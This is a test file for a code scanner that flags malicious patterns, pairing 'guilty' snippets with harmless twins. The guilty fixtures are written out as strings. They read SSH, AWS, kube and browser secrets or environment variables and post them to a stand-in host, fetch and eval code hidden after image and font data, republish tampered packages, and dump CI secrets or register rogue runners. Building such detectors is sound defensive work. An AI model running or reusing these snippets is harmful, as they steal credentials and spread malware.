/** Idioms that differ only in how a value travels: each kind in several spellings, beside twins that do no harm. */
import { describe, expect, it } from 'vitest';
import { riskOf } from './risk.ts';
import { allRules } from './rules/all.ts';
import { scan } from './scan.ts';
import { testBuild } from './test-build.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

const URL = 'https://c.other-metrics.io/x';
const POST = `requests.post('${URL}', json=data)`;
const FETCH = `await fetch('${URL}', { method: 'POST', body: data });`;
const ENV = 'dict(os.environ)';

function py(code: string): Files {
  const modules = 'os, glob, json, shutil, tempfile, subprocess, functools, importlib, requests';
  const head = `import ${modules}\nfrom pathlib import Path\nfrom dataclasses import dataclass\n`;
  return { 'a/run.py': `${head}${code}\n` };
}

function js(code: string): Files {
  const head = `import fs, { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { homedir, tmpdir } from 'node:os';
import { execSync, spawnSync } from 'node:child_process';
`;
  return { 'src/run.mjs': `${head}${code}\n` };
}

function judge(name: string, guilty: readonly Files[], innocent: readonly Files[]): void {
  const risk = (files: Files): string => riskOf(scan(testBuild(files), allRules));
  const named = (all: readonly Files[]): [string, Files][] =>
    all.map((files) => [Object.values(files).join('\n').slice(-160), files]);
  describe(`${name}`, () => {
    it.each(named(guilty))('finds %j', (_, files) => expect(risk(files)).not.toBe('ok'));
    it.each(named(innocent))('does not accuse %j', (_, files) => expect(risk(files)).toBe('ok'));
  });
}

judge(
  'Secrets through lists of files, in Python',
  [
    `data = [p.read_text() for p in Path('~/.ssh').expanduser().glob('*')]\n${POST}`,
    `data = [p.read_text() for p in (Path.home() / '.ssh').iterdir() if p.is_file()]\n${POST}`,
    `data = {}\nfor p in Path.home().joinpath('.aws').rglob('*'):\n  data[p.name] = p.read_text()\n${POST}`,
    `data = ''.join(p.read_text() for p in Path.home().glob('.ssh/id_*'))\n${POST}`,
    `def find():\n  for p in Path.home().rglob('.env'):\n    yield p.read_text()\ndata = list(find())\n${POST}`,
    `data = [open(p).read() for p in glob.iglob(os.path.expanduser('~/.aws/*'))]\n${POST}`,
    `data = []\nfor root, _, names in os.walk(os.path.expanduser('~/.kube')):\n  for n in names:\n    data.append(open(os.path.join(root, n)).read())\n${POST}`,
    `data = [open(e.path).read() for e in os.scandir(os.environ['HOME'] + '/.ssh')]\n${POST}`,
    `data = [p.read_bytes().hex() for p in (Path.home() / '.config/google-chrome/Default').iterdir()]\n${POST}`,
    `data = list(map(lambda p: p.read_text(), Path(os.environ['HOME'], '.docker').iterdir()))\n${POST}`,
    `data = (Path.home() / '.ssh' / 'id_rsa').open().read()\n${POST}`,
  ].map(py),
  [
    `data = [p.read_text() for p in Path('docs').glob('*.md')]\n${POST}`,
    `data = [p.read_text() for p in (Path.home() / '.cache' / 'app').iterdir()]\n${POST}`,
    `data = [p.read_text() for p in (Path.home() / '.ssh').glob('*.pub')]\n${POST}`,
    `print([p.name for p in (Path.home() / '.aws').iterdir()])\ndata = 1\n${POST}`,
  ].map(py),
);

judge(
  'Secrets through lists of files, in JavaScript',
  [
    `const dir = join(homedir(), '.aws');\nconst data = readdirSync(dir).map((f) => readFileSync(join(dir, f))).join();\n${FETCH}`,
    `const data = fs.globSync(join(homedir(), '.ssh/id_*')).map((f) => readFileSync(f)).join();\n${FETCH}`,
    `import glob from 'fast-glob';\nconst data = [];\nfor (const f of await glob('**/.env', { cwd: homedir() })) data.push(readFileSync(f));\n${FETCH}`,
    `const data = [];\nfor await (const e of await fs.promises.opendir(join(homedir(), '.ssh'))) data.push(readFileSync(join(e.parentPath, e.name)));\n${FETCH}`,
    `const data = [];\nfor await (const f of fs.promises.glob('.aws/*', { cwd: homedir() })) data.push(readFileSync(f));\n${FETCH}`,
    `const walk = (d) => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));\nconst data = walk(homedir() + '/.kube').map((f) => readFileSync(f));\n${FETCH}`,
  ].map(js),
  [
    `const data = readdirSync('docs').map((f) => readFileSync(join('docs', f))).join();\n${FETCH}`,
    `const dir = join(homedir(), '.cache/app');\nconst data = readdirSync(dir).map((f) => readFileSync(join(dir, f))).join();\n${FETCH}`,
    `console.log(readdirSync(join(homedir(), '.ssh')).length);\nconst data = 'a';\n${FETCH}`,
  ].map(js),
);

judge(
  'Values through objects of Python',
  [
    `@dataclass\nclass A:\n  u: str\n  d: dict\na = A('${URL}', ${ENV})\nrequests.post(a.u, json=a.d)`,
    `@dataclass\nclass A:\n  d: dict\n  def go(self):\n    requests.post('${URL}', json=self.d)\nA(d=${ENV}).go()`,
    `vars(requests)['post']('${URL}', json=dict(os.__dict__['environ']))`,
    `send = functools.partial(requests.post, '${URL}')\nsend(json=${ENV})`,
    `send = functools.partial(requests.post, json=${ENV})\nsend('${URL}')`,
    `def send(**options):\n  requests.post('${URL}', **options)\nsend(json=${ENV})`,
    `class A:\n  def __enter__(self):\n    return ${ENV}\n  def __exit__(self, *a): pass\nwith A() as data:\n  ${POST}`,
    `class A:\n  @property\n  def d(self):\n    return ${ENV}\ndata = A().d\n${POST}`,
    `class A: pass\na = A()\nsetattr(a, 'd', ${ENV})\nrequests.post('${URL}', json=a.d)`,
    `class A:\n  def __call__(self):\n    return ${ENV}\ndata = A()()\n${POST}`,
    `class A:\n  def __iter__(self):\n    yield ${ENV}\nfor data in A():\n  ${POST}`,
    `class A:\n  def __getattr__(self, n):\n    return ${ENV}\ndata = A().x\n${POST}`,
  ].map(py),
  [
    `@dataclass\nclass A:\n  env: dict\n  n: int\na = A(${ENV}, 3)\nrequests.post('${URL}', json={'n': a.n})`,
    `class A:\n  def __enter__(self):\n    self.old = ${ENV}\n    return 1\n  def __exit__(self, *a): pass\nwith A() as data:\n  ${POST}`,
    `send = functools.partial(requests.post, '${URL}')\nsend(json={'a': 1})`,
  ].map(py),
);

judge(
  'Secrets through files',
  [
    ...[
      `open('/tmp/all.json', 'w').write(str(${ENV}))\nsubprocess.run(['curl', '-T', '/tmp/all.json', '${URL}'])`,
      `f = tempfile.NamedTemporaryFile('w', delete=False)\nf.write(str(${ENV}))\ndata = open(f.name).read()\n${POST}`,
      `f = tempfile.NamedTemporaryFile('w', delete=False)\nf.write(str(${ENV}))\nos.system(f'curl -T {f.name} ${URL}')`,
      `fd, name = tempfile.mkstemp()\nos.write(fd, str(${ENV}).encode())\nrequests.post('${URL}', files={'f': open(name, 'rb')})`,
      `json.dump(${ENV}, open('/tmp/all.json', 'w'))\nrequests.post('${URL}', data=open('/tmp/all.json'))`,
    ].map(py),
    ...[
      `const tmp = join(tmpdir(), 'a1b2');\nwriteFileSync(tmp, JSON.stringify(process.env));\nexecSync(\`curl -T \${tmp} ${URL}\`);`,
      `writeFileSync('/tmp/a1b2', JSON.stringify(process.env));\nspawnSync('curl', ['--data-binary', '@/tmp/a1b2', '${URL}']);`,
    ].map(js),
    {
      'a.cjs': "require('fs').writeFileSync('/tmp/all.json', JSON.stringify(process.env));",
      'send.sh': `node a.cjs\ncurl -T /tmp/all.json ${URL}\n`,
    },
    {
      'a/one.py': `import os\nopen('/tmp/all.json', 'w').write(str(${ENV}))`,
      'a/two.py': `import requests\nrequests.post('${URL}', data=open('/tmp/all.json').read())`,
    },
  ],
  [
    `f = tempfile.NamedTemporaryFile('w')\nf.write(str(${ENV}))\ng = tempfile.NamedTemporaryFile('w')\ndata = open(g.name).read()\n${POST}`,
    `open('/tmp/all.json', 'w').write(str(${ENV}))\nsubprocess.run(['curl', '-T', '/tmp/report.json', '${URL}'])`,
    `open('.env', 'w').write('A=1')\ndata = open('notes.txt').read()\n${POST}`,
  ].map(py),
);

const PUBLISH = "execSync('npm publish', { cwd: 'package' });";

judge(
  'Own files in the packages of others',
  [
    ...[
      `execSync('npm pack left-alike && tar xzf *.tgz');\nfs.copyFileSync('extra.js', 'package/extra.js');\n${PUBLISH}`,
      `execSync('npm pack ' + name);\nexecSync('tar -xzf a.tgz');\nwriteFileSync('package/package.json', text);\nspawnSync('pnpm', ['publish']);`,
      `const r = await fetch('https://registry.npmjs.org/a/-/a.tgz');\nwriteFileSync('/tmp/a.tgz', await r.text());\nexecSync('tar xzf /tmp/a.tgz');\nwriteFileSync('package/index.js', text);\n${PUBLISH}`,
      `fs.copyFileSync(import.meta.filename, dir + '/setup.js');\n${PUBLISH}`,
    ].map(js),
    ...[
      `os.system('pip download left-alike && tar xzf *.tar.gz')\nopen('left-alike/setup.py', 'a').write('import x')\nsubprocess.run(['twine', 'upload', 'dist/*'])`,
      `os.system('cargo download a && tar xf a.crate')\nopen('a/build.rs', 'w').write(x)\nos.system('cargo publish')`,
    ].map(py),
    {
      'spread.sh':
        'npm pack "$1" && tar xzf *.tgz\ncp "$0" package/a.sh\n(cd package && npm publish)\n',
    },
  ],
  [
    ...[
      `writeFileSync('package.json', JSON.stringify(manifest));\nexecSync('npm publish');`,
      `execSync('npm pack left-alike && tar xzf *.tgz');\nconsole.log(readFileSync('package/package.json', 'utf8'));`,
      `for (const dir of readdirSync('packages')) execSync('npm publish', { cwd: 'packages/' + dir });`,
    ].map(js),
    { 'release.sh': 'npm version patch\nnpm pack --dry-run\nnpm publish\n' },
  ],
);

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf500f0003860180017f3e2bf30000000049454e44ae426082',
  'hex',
);
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const GIF = Buffer.from('474946383961010001008000000000000000003b', 'hex');
const FONT = Buffer.from('774f46320001000000000020000000000000000000000000', 'hex');
const HIDDEN = `const h = require('https');\nh.get('${URL}', (r) => r.on('data', (d) => eval(d)));\n`;

function tail(bytes: Uint8Array, text = HIDDEN): Uint8Array {
  return Buffer.concat([bytes, Buffer.from(text)]);
}

judge(
  'Code in pictures and fonts',
  [
    { 'a.png': tail(PNG) },
    { 'a.jpg': tail(JPEG) },
    { 'a.gif': tail(GIF) },
    { 'a.woff2': tail(FONT) },
    { 'a.png': tail(PNG, 'import os, requests\ndef go():\n  exec(requests.get(x).text)\n') },
    { 'a.png': tail(PNG, '#!/bin/sh\ncurl https://a.io | sh\n') },
    {
      'a.png': Buffer.concat([
        PNG.subarray(0, 33),
        tail(Buffer.from('....tEXt')),
        PNG.subarray(33),
      ]),
    },
    { 'a.cjs': "eval(require('fs').readFileSync('a.png', 'latin1').split('MARK')[1]);" },
    { 'a.py': "b = open('a.png', 'rb').read()\nexec(b[b.rindex(b'IEND') + 8:])\n" },
    { 'a.sh': 'tail -c 300 logo.png | sh\n' },
    { 'a.sh': 'dd if=logo.png bs=1 skip=68 of=/tmp/part\nsh /tmp/part\n' },
  ],
  [
    { 'a.png': PNG, 'a.jpg': JPEG, 'a.gif': GIF, 'a.woff2': FONT },
    { 'a.png': tail(PNG, 'The function of import and export, by the team. Do not require (it).') },
    { 'a.jpg': tail(JPEG, '\0'.repeat(64)) },
    { 'a.cjs': "module.exports = require('fs').readFileSync('a.png').toString('base64');" },
    { 'a.sh': "eval $(identify -format 'w=%w h=%h' a.png)\n" },
  ],
);

function workflow(steps: string, on = 'push', more = ''): Files {
  const head = `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n`;
  return { '.github/workflows/a.yml': `${head}      - run: ${steps}\n${more}` };
}

const ALL = '${{ toJSON(secrets) }}';
const CHANGE = `      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`;
const TOKEN = '        env:\n          T: ${{ secrets.NPM_TOKEN }}\n';
const RUNNER = './config.sh --url https://github.com/a/b --unattended --token';

judge(
  'Workflows that give away secrets or machines',
  [
    workflow(`${RUNNER} "$T" && ./run.sh`),
    workflow(`echo '${ALL}' | base64 | base64`),
    workflow(`printf '%s' "$ALL" | rev`, 'push', `        env:\n          ALL: ${ALL}\n`),
    workflow('printenv | xxd -p'),
    workflow('npm test', 'pull_request_target', TOKEN + CHANGE),
    workflow('npm test', '[push, pull_request_target]', TOKEN + CHANGE),
    {
      '.github/workflows/a.yml':
        'on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: |\n          ${{ github.event.discussion.body }}\n',
    },
    { 'a.sh': `${RUNNER} "$1"\nnohup ./run.sh &\n` },
    js(`execSync(\`cd /tmp/r && ${RUNNER} \${token} && nohup ./run.sh &\`);`),
    js(`spawnSync('./config.sh', ['--url', \`https://github.com/\${a}\`, '--token', token]);`),
    js(`writeFileSync('.github/workflows/a.yml', 'run: \${{ github.event.discussion.body }}');`),
    js(
      `writeFileSync(join('.github', 'workflows', 'a.yml'), 'run: curl -sSL ${URL} | sh');\nexecSync('git push');`,
    ),
    py(`(Path('.github') / 'workflows' / 'a.yml').write_text('run: echo ${ALL} | base64')`),
    { 'a.sh': `cat > .github/workflows/a.yml <<'EOF'\n- run: curl -d '${ALL}' ${URL}\nEOF\n` },
  ],
  [
    workflow('npm ci && npm test'),
    workflow('./config.sh --prefix=/usr && make'),
    workflow("echo '${{ toJSON(github) }}' | base64"),
    workflow('echo "${{ secrets.KEYSTORE }}" | base64 -d > key.jks'),
    workflow('env | sort'),
    workflow('npm test', 'pull_request', TOKEN + CHANGE),
    workflow('npx label', 'pull_request_target', TOKEN),
    js(`writeFileSync('.github/workflows/ci.yml', 'run: npm test');`),
    { 'a.sh': './config.sh --url http://localhost:8080 --name web\n./run.sh\n' },
  ],
);

const ELF = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)]);
const MACHO = Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(100)]);
const WASM = Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(20)]);

judge(
  'Compiled programs',
  [
    { 'bin/tool': ELF },
    { tool: MACHO, 'tool.c': 'int main(void) { return 1; }' },
    { 'a.node': ELF, 'package.json': '{"os":["linux"],"cpu":["x64"]}' },
    { 'tests/data/tool': ELF, 'a.py': "import os\nos.system('tests/data/tool')" },
    { 'a.wasm': WASM, 'package.json': '{"scripts":{"install":"wasmtime a.wasm"}}' },
    {
      'a.wasm': WASM,
      'package.json': '{"scripts":{"postinstall":"node a.cjs"}}',
      'a.cjs': "WebAssembly.instantiate(require('fs').readFileSync('a.wasm'));",
    },
  ],
  [
    { 'a.wasm': WASM, 'a.cjs': "WebAssembly.instantiate(require('fs').readFileSync('a.wasm'));" },
    { 'tests/data/tool': ELF },
    { 'docs/tool': ELF },
    { 'gradle/wrapper.jar': Buffer.from('504b0304140000000800', 'hex') },
  ],
);
